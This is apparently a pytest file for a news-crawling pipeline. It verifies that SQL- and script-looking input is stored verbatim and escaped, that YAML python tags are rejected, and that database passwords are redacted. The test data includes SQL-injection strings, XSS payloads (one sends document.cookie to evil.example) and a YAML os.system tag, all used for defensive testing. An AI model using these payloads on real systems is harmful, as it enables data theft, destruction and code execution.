"""Hostile input and secrets: SQL- and script-looking text stored verbatim and escaped in the
report, YAML loaded safely, a DSN's password never shown. Real crawl, process and report.
"""

from __future__ import annotations

import html
import os
import subprocess
import sys
from pathlib import Path

import psycopg
import pytest
import yaml

from pipeline.db import redact
from pipeline.demo_site import DemoSite, serve_demo_site
from pipeline.demo_site.faults import Fault
from pipeline.errors import NewsdeskError
from pipeline.sources.config import load_sources
from tests.repo import REPO_ROOT
from tests.test_faults_http import PUB, crawl, rss

SQL_TITLE = 'Robert\'); DROP TABLE articles;-- and "quotes" \\ backslash'
SCRIPT_TITLE = '<script>alert("xss")</script> headline'
AUTHOR = "<img src=x onerror=alert(1)> O'Brien; DELETE FROM raw_pages;--"
HOSTILE_PATH = "/2026/03/15/drop-table-articles--script-alert-1-9001/"
BODY_LINES = [
    "'; DELETE FROM raw_pages WHERE ''=''; --",
    '<script>document.location="http://evil.example/?c="+document.cookie</script>',
    "{{7*7}} ${7*7} %s %(x)s \\x00",
]
FILLER = "The council met on Tuesday to discuss the new budget for the coming year. " * 6


def hostile_page(title: str, published: str = "2026-03-15T09:00:00Z") -> bytes:
    paragraphs = "".join(f"<p>{html.escape(line)} {FILLER}</p>" for line in BODY_LINES)
    return (
        "<!DOCTYPE html><html lang='en'><head>"
        f"<title>{html.escape(title)}</title>"
        f'<meta property="og:title" content="{html.escape(title)}">'
        f'<meta name="author" content="{html.escape(AUTHOR)}">'
        f'<meta property="article:published_time" content="{published}">'
        f"</head><body><article><h1>{html.escape(title)}</h1>{paragraphs}</article></body></html>"
    ).encode()


def newsdesk(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pipeline.cli", *args],
        cwd=REPO_ROOT, capture_output=True, text=True, timeout=120, env=os.environ.copy(),
    )  # fmt: skip


@pytest.mark.slow
def test_sql_and_script_looking_text_is_stored_verbatim_and_escaped_in_the_report(
    db_url: str, tmp_path: Path
) -> None:
    with serve_demo_site(DemoSite(seed=7, n_articles=60)) as site:
        base = site.bases[PUB]
        site.faults.set(PUB, HOSTILE_PATH, Fault("content", body=hostile_page(SQL_TITLE)))
        script_path = HOSTILE_PATH.replace("9001", "9002")
        site.faults.set(
            PUB,
            script_path,
            Fault("content", body=hostile_page(SCRIPT_TITLE, "2026-03-15T08:00:00Z")),
        )
        query_url = f"{base}/2026/03/15/q-9003/?id=1'%20OR%20'1'='1;--&x=<script>"
        site.faults.set(
            PUB,
            # the URL as found, percent-encoded as Scrapy sends it (never re-keyed)
            "/2026/03/15/q-9003/?id=1%27%20OR%20%271%27=%271;--&x=%3Cscript%3E",
            Fault("content", body=hostile_page("Query string page")),
        )
        urls = [base + HOSTILE_PATH, base + script_path, query_url]
        site.faults.set(PUB, "/hostile.xml", Fault("content", body=rss(base, urls)))
        document = yaml.safe_load(site.sources_yaml())
        document["sources"] = [s for s in document["sources"] if s["name"] == PUB]
        document["sources"][0].update(feeds=[base + "/hostile.xml"], sitemaps=[], listings=[])
        sources = tmp_path / "sources.yaml"
        sources.write_text(yaml.safe_dump(document))
        result = crawl(f"--source={PUB}", "--sources", str(sources), "--no-delay", db=db_url)
        assert result.returncode == 0, result.stderr
    processed = newsdesk("process", "--sources", str(sources), "--workers", "1")
    assert processed.returncode == 0, processed.stderr
    with psycopg.connect(db_url) as conn:
        rows = conn.execute("SELECT url, title, authors, body FROM articles").fetchall()
        tables = conn.execute("SELECT to_regclass('articles'), to_regclass('raw_pages')").fetchone()
        raw = conn.execute("SELECT count(*) FROM raw_pages").fetchone()[0]
    assert all(tables) and raw == 3  # nothing was dropped or deleted
    by_title = {row[1]: row for row in rows}
    assert SQL_TITLE in by_title and SCRIPT_TITLE in by_title, list(by_title)
    for title in (SQL_TITLE, SCRIPT_TITLE):
        _, _, authors, body = by_title[title]
        for line in BODY_LINES:
            assert line in body
        assert any("O'Brien" in a for a in authors), authors
    # The SQL-looking query string is stored as a URL like any other.
    assert any("%271%27=%271;--" in row[0] for row in rows)

    # Put the hostile headlines in one story, so the report's stories table shows the first.
    with psycopg.connect(db_url) as conn:
        story = conn.execute("INSERT INTO stories DEFAULT VALUES RETURNING id").fetchone()[0]
        conn.execute("UPDATE articles SET story_id = %s", (story,))
    out = tmp_path / "report.html"
    report = newsdesk("report", "--date", "2026-03-15", "--out", str(out))
    assert report.returncode == 0, report.stderr
    page = out.read_text(encoding="utf-8")
    assert "<script>alert" not in page and "onerror=alert" not in page
    # The stories table lists the hostile headlines, escaped.
    assert html.escape(SCRIPT_TITLE, quote=False) in page or html.escape(SCRIPT_TITLE) in page, (
        page[page.find("stories") :][:600]
    )


@pytest.mark.parametrize(
    "tag",
    ["!!python/object/apply:os.system ['touch /tmp/newsdesk-pwned']", "!!python/object:object {}"],
)
def test_yaml_python_tags_are_an_error_naming_the_file(tmp_path: Path, tag: str) -> None:
    path = tmp_path / "evil-sources.yaml"
    path.write_text(f"sources:\n- name: evil\n  homepage: {tag}\n")
    with pytest.raises(NewsdeskError, match=r"evil-sources\.yaml"):
        load_sources(path)
    assert not Path("/tmp/newsdesk-pwned").exists()


def test_a_hostile_source_name_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "sources.yaml"
    path.write_text(
        'sources:\n- name: "x\'); DROP TABLE sources;--"\n  homepage: http://example.com/\n'
        "  feeds: [http://example.com/feed]\n"
    )
    with pytest.raises(NewsdeskError):
        load_sources(path)


@pytest.mark.parametrize(
    "dsn",
    [
        "postgresql://newsdesk:s3cr3t-pw@db.internal:5432/newsdesk",
        "host=db.internal user=newsdesk password=s3cr3t-pw dbname=newsdesk",
        "connection to postgresql://u:s3cr3t-pw@h/db failed: timeout",
        "host=db.internal password='it\\'s s3cr3t-pw' dbname=newsdesk",  # an escaped quote
    ],
)
def test_redact_hides_the_password(dsn: str) -> None:
    assert "s3cr3t-pw" not in redact(dsn)


@pytest.mark.parametrize(
    "dsn",
    [
        "postgresql://newsdesk:s3cr3t-pw@127.0.0.1:1/nd?connect_timeout=2",  # unreachable
        # Malformed: libpq quotes the whole URL in its error.
        "postgresql://newsdesk:s3cr3t-pw@[::1/nd",
        "host=127.0.0.1 port=1 password=s3cr3t-pw dbname",
    ],
)
def test_dsn_password_never_in_cli_output(tmp_path: Path, dsn: str) -> None:
    env = os.environ | {"NEWSDESK_DATABASE_URL": dsn}
    for args in (["db", "status"], ["report", "--out", str(tmp_path / "r.html")], ["process"]):
        result = subprocess.run(
            [sys.executable, "-m", "pipeline.cli", *args],
            cwd=REPO_ROOT, capture_output=True, text=True, timeout=30, env=env,
        )  # fmt: skip
        assert result.returncode != 0, args
        assert "s3cr3t-pw" not in result.stdout + result.stderr, args
        assert "Traceback" not in result.stderr, args
